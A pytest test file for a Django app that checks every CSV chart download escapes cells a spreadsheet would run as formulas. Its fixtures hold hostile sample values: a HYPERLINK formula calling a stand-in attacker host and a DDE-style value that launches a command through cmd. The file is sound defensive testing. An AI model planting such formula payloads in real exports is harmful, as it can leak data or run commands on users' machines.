"""No CSV download carries a cell a spreadsheet would run as a formula."""

import csv
import io

import pytest
from django.urls import reverse

from core.csv_cells import FORMULA_STARTS, csv_cell
from golden.models import EvalRun
from insights.overview import CHART_BUILDERS
from judges.models import Rubric
from tests.insights.world import insights_world

pytestmark = pytest.mark.django_db

PAYLOAD = '=HYPERLINK("http://evil.example/?x","x")'


@pytest.fixture
def hostile_names(db):
    insights_world()
    for index, rubric in enumerate(Rubric.objects.all()):
        rubric.name = f"{PAYLOAD} {index}"
        rubric.save(update_fields=["name"])
    for index, run in enumerate(EvalRun.objects.all()):
        run.name = f"@SUM(1+1)*cmd|' /C calc'!A{index}"
        run.agent_version = f"+{index}"
        run.save(update_fields=["name", "agent_version"])


def test_every_csv_download_neutralizes_formula_cells(client, annotator, hostile_names):
    client.force_login(annotator)
    neutralized = []
    for key in CHART_BUILDERS:
        response = client.get(reverse("insights:chart_csv", args=[key]))
        assert response.status_code == 200
        for row in csv.reader(io.StringIO(response.content.decode())):
            for cell in row:
                assert not cell.startswith(FORMULA_STARTS) or _number(cell), (key, cell)
                if cell.startswith("'") and cell[1:].startswith(FORMULA_STARTS):
                    neutralized.append(key)
    assert {"judge_vs_people", "judge_cost", "eval_runs"} <= set(neutralized)


def _number(cell: str) -> bool:
    # A negative number is a value a spreadsheet must keep as one; the helper sees only text.
    try:
        float(cell)
    except ValueError:
        return False
    return True


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("-2+3", "'-2+3"),
        ("\tx", "'\tx"),
        ("plain", "plain"),
        (-2.5, -2.5),
        (None, None),
    ],
)
def test_a_text_cell_starting_a_formula_is_prefixed(value, expected):
    assert csv_cell(value) == expected
